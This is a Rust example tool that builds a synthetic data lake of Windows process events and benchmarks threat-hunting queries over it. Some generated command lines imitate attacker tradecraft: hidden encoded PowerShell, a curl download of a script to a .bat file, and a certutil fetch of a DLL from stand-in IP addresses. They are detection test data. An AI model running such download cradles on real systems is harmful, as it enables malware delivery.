//! Makes a lake of synthetic process events, and times hunts over it.
//!
//! ```text
//! cargo run --release -p lazaret-hunt --example lake -- make <folder> <events>
//! cargo run --release -p lazaret-hunt --example lake -- time <folder> <hunt>…
//! ```
//!
//! `time` prints a line for each hunt: its name, seconds from text to last row
//! (the best of three), and rows.

#![allow(
    clippy::print_stdout,
    clippy::print_stderr,
    reason = "this is a command-line tool"
)]

use std::{
    error::Error,
    path::{Path, PathBuf},
    time::{Duration, Instant},
};

use lazaret_content::Content;
use lazaret_hunt::{Hunt, LakeWriter, Language, Options, Value, schema::Schemas};

/// As in the program itself.
#[global_allocator]
static ALLOCATOR: mimalloc::MiMalloc = mimalloc::MiMalloc;

/// 2026-03-11T00:00:00Z, the end of the events.
const END: i64 = 1_773_187_200_000_000;
const DAYS: i64 = 10;
const DAY: i64 = 86_400_000_000;
const DEVICES: u64 = 100;

fn main() -> Result<(), Box<dyn Error>> {
    let args: Vec<String> = std::env::args().skip(1).collect();
    match args.as_slice() {
        [verb, folder, events] if verb == "make" => make(Path::new(folder), events.parse()?),
        [verb, folder, hunts @ ..] if verb == "time" => time(Path::new(folder), hunts),
        _ => Err("usage: lake make <folder> <events> | lake time <folder> <hunt>…".into()),
    }
}

/// Numbers that look random and are the same each time (xorshift*).
struct Dice(u64);

impl Dice {
    fn below(&mut self, count: u64) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        (self.0.wrapping_mul(0x2545_F491_4F6C_DD1D) >> 33) % count
    }

    /// Low numbers far more often than high ones.
    fn skewed(&mut self, count: u64) -> u64 {
        let first = self.below(count);
        let second = self.below(first + 1);
        self.below(second + 1)
    }
}

const PROGRAMS: [&str; 24] = [
    "svchost.exe",
    "chrome.exe",
    "node.exe",
    "conhost.exe",
    "git.exe",
    "python.exe",
    "cmd.exe",
    "msedge.exe",
    "explorer.exe",
    "powershell.exe",
    "npm.cmd",
    "code.exe",
    "winword.exe",
    "excel.exe",
    "outlook.exe",
    "sh",
    "curl.exe",
    "cargo.exe",
    "rustc.exe",
    "java.exe",
    "certutil.exe",
    "rundll32.exe",
    "wscript.exe",
    "mshta.exe",
];

fn line(dice: &mut Dice, program: &str) -> String {
    let number = dice.skewed(40_000);
    match program {
        "node.exe" => format!(
            "\"C:\\Program Files\\nodejs\\node.exe\" C:\\work\\app{number}\\node_modules\\.bin\\tsc --project tsconfig.json"
        ),
        "chrome.exe" | "msedge.exe" => format!(
            "{program} --type=renderer --field-trial-handle={number},i,{} --lang=en-US --renderer-client-id={}",
            number * 7,
            number % 97
        ),
        "powershell.exe" if number.is_multiple_of(50) => {
            format!("powershell.exe -nop -w hidden -enc {number:08x}SQBFAFgA")
        }
        "powershell.exe" => {
            format!("powershell.exe -ExecutionPolicy Bypass -File C:\\scripts\\job{number}.ps1")
        }
        "cmd.exe" if number.is_multiple_of(500) => format!(
            "cmd.exe /d /s /c curl -s http://192.0.2.{}/a.sh -o C:\\temp\\{number}.bat",
            number % 250
        ),
        "cmd.exe" => format!("cmd.exe /d /s /c node scripts\\build.js --target {number}"),
        "curl.exe" => format!("curl.exe -fsSL https://registry.example.com/pkg/{number}"),
        "certutil.exe" => format!(
            "certutil.exe -urlcache -split -f http://198.51.100.{}/x{number}.dll",
            number % 200
        ),
        other => format!(
            "{other} --task {number} --user-data C:\\Users\\u{}\\AppData",
            number % 977
        ),
    }
}

fn make(folder: &Path, events: u64) -> Result<(), Box<dyn Error>> {
    let schemas = Schemas::load(&Content::shipped())?;
    let mut writer = LakeWriter::create(folder, schemas)?;
    let mut dice = Dice(0x9E37_79B9_7F4A_7C15);
    let start = Instant::now();
    let each = events.div_ceil(DEVICES * DAYS as u64);
    let mut made = 0;
    // Device by device within a day: each partition as compaction leaves it.
    for day in 0..DAYS {
        for device in 0..DEVICES {
            let name = format!("ws{device:04}.corp.example.com");
            let count = each.min(events - made);
            for index in 0..count {
                let within = DAY / count as i64 * index as i64 + dice.below(1_000_000) as i64;
                let pick = |dice: &mut Dice| {
                    let at = dice.skewed(PROGRAMS.len() as u64) as usize;
                    PROGRAMS.get(at).copied().unwrap_or("sh")
                };
                let (program, parent) = (pick(&mut dice), pick(&mut dice));
                let user = dice.skewed(400);
                let text = |text: String| Value::Text(text);
                writer.write(
                    "DeviceProcessEvents",
                    [
                        (
                            "Timestamp",
                            Value::Datetime(END - (DAYS - day) * DAY + within),
                        ),
                        ("DeviceId", text(format!("{:040x}", device * 7919 + 1))),
                        ("DeviceName", text(name.clone())),
                        ("ActionType", text("ProcessCreated".to_owned())),
                        ("FileName", text(program.to_owned())),
                        ("FolderPath", text(format!("C:\\Program Files\\{program}"))),
                        (
                            "SHA256",
                            text(format!("{:064x}", dice.skewed(3000) * 104_729)),
                        ),
                        ("ProcessId", Value::Long(dice.below(65_536) as i64)),
                        ("ProcessCommandLine", text(line(&mut dice, program))),
                        ("AccountName", text(format!("user{user}"))),
                        ("AccountUpn", text(format!("user{user}@corp.example.com"))),
                        ("InitiatingProcessFileName", text(parent.to_owned())),
                        (
                            "InitiatingProcessId",
                            Value::Long(dice.below(65_536) as i64),
                        ),
                        (
                            "InitiatingProcessCommandLine",
                            text(line(&mut dice, parent)),
                        ),
                        ("ReportId", Value::Long((made % 100_000) as i64)),
                    ],
                )?;
                made += 1;
            }
        }
    }
    let written = writer.finish()?;
    let seconds = start.elapsed().as_secs_f64();
    println!(
        "{written} events in {seconds:.1} s ({:.0} a second)",
        written as f64 / seconds
    );
    Ok(())
}

fn time(folder: &Path, hunts: &[String]) -> Result<(), Box<dyn Error>> {
    let threads = std::thread::available_parallelism().map_or(2, usize::from);
    for path in hunts.iter().map(PathBuf::from) {
        let text = std::fs::read_to_string(&path)?;
        let language = Language::of_path(&path).ok_or("a hunt ends in .kql or .spl")?;
        let mut best = Duration::MAX;
        let mut rows = 0;
        for _ in 0..3 {
            // All of it anew: nothing is kept from the hunt before.
            let options = Options {
                now: Some(END),
                threads,
                ..Options::default()
            };
            let hunt = Hunt::new(options)?.with_lake(folder)?;
            let start = Instant::now();
            let result = hunt.run(language, &text)?;
            best = best.min(start.elapsed());
            rows = result.len();
        }
        let name = path.file_name().unwrap_or_default().to_string_lossy();
        println!("{name}\t{:.4}\t{rows}", best.as_secs_f64());
    }
    Ok(())
}
